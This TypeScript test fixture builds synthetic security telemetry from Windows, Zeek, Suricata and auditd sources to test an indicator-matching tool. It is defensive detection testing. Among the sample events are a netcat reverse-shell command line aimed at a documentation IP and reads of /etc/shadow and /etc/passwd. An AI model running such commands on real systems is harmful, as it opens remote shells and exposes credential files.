/**
 * A small case with one or more events from every source the indicator compiler maps, each tagged with a name in
 * `raw.t` so tests can assert exactly which events a predicate selects (the others are the negatives).
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { NormalizedEvent } from '../../src/model/index.js';
import { openDuckDBCase, type CaseStore } from '../../src/store/index.js';

export const T0 = 1_704_067_200n * 1_000_000_000n; // 2024-01-01T00:00:00Z
export const at = (sec: number): bigint => T0 + BigInt(sec) * 1_000_000_000n;
export const iso = (sec: number): string => new Date(Number(at(sec) / 1_000_000n)).toISOString();

type Ev = Omit<NormalizedEvent, 'offset' | 'fields' | 'tsNs'> & { t: string; sec: number | null; fields?: Record<string, unknown> };

const win = (e: Omit<Ev, 'format'>): Ev => ({ format: 'evtx', product: 'windows', ...e });
const zeek = (e: Omit<Ev, 'format'>): Ev => ({ format: 'zeek', product: 'zeek', ...e });
const suri = (e: Omit<Ev, 'format'>): Ev => ({ format: 'suricata', product: 'suricata', ...e });
const linux = (e: Omit<Ev, 'format'>): Ev => ({ format: 'auditd', product: 'linux', ...e });

const SHA256_A = 'a'.repeat(63) + '1';
const MD5_A = 'b'.repeat(31) + '2';
const SHA1_A = 'c'.repeat(39) + '3';
export const HASH = { SHA256_A, MD5_A, SHA1_A, CERT_SHA256: 'd'.repeat(64), TLS_SHA1: 'ab:'.repeat(19) + 'ab', JA3: 'e7d705a3286e19ea42f587b344ee6865' };

export const EVENTS: Ev[] = [
  win({ t: 'w-proc', sec: 1, eventId: 1, image: 'C:\\Windows\\System32\\cmd.exe', commandLine: 'cmd.exe /c whoami', user: 'CORP\\alice', fields: {
    EventID: 1, Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c whoami', User: 'CORP\\alice', ProcessId: '4242',
    ParentImage: 'C:\\Windows\\explorer.exe', ParentCommandLine: 'C:\\Windows\\explorer.exe',
    Hashes: `SHA1=${SHA1_A.toUpperCase()},MD5=${MD5_A.toUpperCase()},SHA256=${SHA256_A.toUpperCase()},IMPHASH=00112233445566778899AABBCCDDEEFF`,
  } }),
  win({ t: 'w-proc2', sec: 2, eventId: 1, image: 'C:\\Windows\\System32\\notepad.exe', commandLine: 'notepad.exe report.txt', user: 'CORP\\bob', fields: {
    EventID: 1, Image: 'C:\\Windows\\System32\\notepad.exe', CommandLine: 'notepad.exe report.txt', User: 'CORP\\bob', ProcessId: '77',
    Hashes: `SHA256=${'f'.repeat(64)}`,
  } }),
  win({ t: 'w-net', sec: 3, eventId: 3, srcIp: '10.1.2.3', srcPort: 50123, dstIp: '203.0.113.7', dstPort: 443, proto: 'tcp', fields: {
    EventID: 3, Image: 'C:\\Temp\\beacon.exe', SourceIp: '10.1.2.3', SourcePort: '50123', DestinationIp: '203.0.113.7', DestinationPort: '443',
    Protocol: 'tcp', DestinationHostname: 'evil.example.com',
  } }),
  win({ t: 'w-dns', sec: 4, eventId: 22, fields: { EventID: 22, QueryName: 'C2.Example.NET', Image: 'C:\\Temp\\beacon.exe' } }),
  win({ t: 'w-file', sec: 5, eventId: 11, fields: { EventID: 11, TargetFilename: 'C:\\Users\\bob\\AppData\\payload.dll', Image: 'C:\\Windows\\System32\\rundll32.exe' } }),
  win({ t: 'w-logon', sec: 6, eventId: 4624, fields: { EventID: 4624, TargetUserName: 'bob', TargetUserSid: 'S-1-5-21-1-2-3-1001', IpAddress: '198.51.100.20' } }),
  win({ t: 'w-net6', sec: 7, eventId: 3, fields: { EventID: 3, SourceIp: 'fe80::1', DestinationIp: '2001:DB8:0:0::dead:beef', DestinationPort: '80' } }),
  zeek({ t: 'z-conn', sec: 10, service: 'conn', srcIp: '192.168.1.5', srcPort: 40000, dstIp: '198.51.100.99', dstPort: 8443, proto: 'tcp', fields: {
    'id.orig_h': '192.168.1.5', 'id.orig_p': 40000, 'id.resp_h': '198.51.100.99', 'id.resp_p': 8443, proto: 'tcp', service: 'ssl',
  } }),
  zeek({ t: 'z-dns', sec: 11, service: 'dns', fields: { query: 'bad.example.org', 'id.orig_h': '192.168.1.5', 'id.resp_h': '192.168.1.1' } }),
  zeek({ t: 'z-http', sec: 12, service: 'http', fields: { host: 'www.evil.test', uri: '/gate.php?id=1', user_agent: 'EvilAgent/1.0', 'id.orig_h': '192.168.1.6', 'id.resp_h': '198.51.100.10' } }),
  zeek({ t: 'z-files', sec: 13, service: 'files', fields: { md5: MD5_A, sha1: SHA1_A, sha256: SHA256_A, filename: 'invoice.pdf' } }),
  zeek({ t: 'z-x509', sec: 14, service: 'x509', fields: {
    'certificate.subject': 'CN=evil.test', 'certificate.issuer': 'CN=Evil CA', 'certificate.serial': '4C0B1D1974', fingerprint: 'd'.repeat(64),
  } }),
  zeek({ t: 'z-ssl', sec: 15, service: 'ssl', fields: { server_name: 'sni.evil.test', ja3: HASH.JA3, 'id.orig_h': '192.168.1.7', 'id.resp_h': '198.51.100.11' } }),
  suri({ t: 's-dns', sec: 20, srcIp: '192.168.2.2', dstIp: '192.168.2.1', fields: { event_type: 'dns', src_ip: '192.168.2.2', dest_ip: '192.168.2.1', dns: { rrname: 'nested.evil.test' } } }),
  suri({ t: 's-tls', sec: 21, fields: { event_type: 'tls', src_ip: '192.168.2.3', dest_ip: '198.51.100.12', dest_port: 443, proto: 'TCP', app_proto: 'tls',
    tls: { sni: 'tls.evil.test', fingerprint: HASH.TLS_SHA1, subject: 'CN=tls.evil.test', issuerdn: 'CN=Other CA', serial: '00:E1:02', ja3: { hash: HASH.JA3 } } } }),
  suri({ t: 's-http', sec: 22, fields: { event_type: 'http', src_ip: '192.168.2.4', dest_ip: '198.51.100.13', http: { hostname: 'h.evil.test', url: '/x?a=1', http_user_agent: 'curl/8.0' } } }),
  suri({ t: 's-file', sec: 23, fields: { event_type: 'fileinfo', fileinfo: { sha256: 'e'.repeat(64), filename: '/tmp/drop.sh' } } }),
  linux({ t: 'l-exec', sec: 30, image: '/usr/bin/nc', commandLine: 'nc -e /bin/sh 203.0.113.9 4444', user: 'mallory', dstIp: '203.0.113.9', dstPort: 4444, fields: {
    exe: '/usr/bin/nc', comm: 'nc', uid: '1000', auid: '1000', pid: '3131',
  } }),
  linux({ t: 'l-open', sec: 31, fields: { type: ['SYSCALL', 'PATH'], name: '/etc/shadow', exe: '/usr/bin/cat' } }),
  linux({ t: 'l-open2', sec: 32, fields: { type: ['SYSCALL', 'PATH'], name: ['/etc/passwd', '/lib/ld.so'], exe: '/usr/bin/cat' } }),
  // Observation-operator timeline: stage1 at 500, a C2 connection at 510 and one earlier at 400; beacons at 1000–1020 and 2000.
  win({ t: 'p-early', sec: 400, eventId: 3, dstIp: '203.0.113.50', fields: { EventID: 3, DestinationIp: '203.0.113.50' } }),
  win({ t: 'p-stage1', sec: 500, eventId: 1, image: 'C:\\Temp\\stage1.exe', fields: { EventID: 1, Image: 'C:\\Temp\\stage1.exe' } }),
  win({ t: 'p-c2', sec: 510, eventId: 3, dstIp: '203.0.113.50', fields: { EventID: 3, DestinationIp: '203.0.113.50' } }),
  zeek({ t: 'r1', sec: 1000, service: 'dns', fields: { query: 'beacon.test' } }),
  zeek({ t: 'r2', sec: 1010, service: 'dns', fields: { query: 'beacon.test' } }),
  zeek({ t: 'r3', sec: 1020, service: 'dns', fields: { query: 'beacon.test' } }),
  zeek({ t: 'r4', sec: 2000, service: 'dns', fields: { query: 'beacon.test' } }),
  zeek({ t: 'no-time', sec: null, service: 'dns', fields: { query: 'timeless.test' } }),
];

export async function openFixtureCase(): Promise<{ store: CaseStore; dir: string; close: () => Promise<void> }> {
  const dir = await mkdtemp(join(tmpdir(), 'veritrace-ioc-'));
  const store = await openDuckDBCase(dir, { create: true });
  const events: NormalizedEvent[] = EVENTS.map((e, i) => {
    const { t, sec, fields, ...rest } = e;
    return { ...rest, tsNs: sec === null ? null : at(sec), fields: { ...(fields ?? {}), t }, offset: i + 1 };
  });
  await store.writeFile({
    evidence: { sha256: '0'.repeat(64), path: 'fixture', size: 0, format: 'mixed', gzip: false },
    batches: (async function* () { yield { events }; })(),
  });
  return { store, dir, close: async () => { await store.close(); await rm(dir, { recursive: true, force: true }); } };
}

/** Names (`raw.t`) of the events a predicate selects, sorted. */
export async function matching(store: CaseStore, where: string): Promise<string[]> {
  const rows = await store.query<{ t: string }>(`SELECT json_extract_string(raw, '$.t') AS t FROM events WHERE ${where} ORDER BY t`);
  return rows.map((r) => r.t);
}
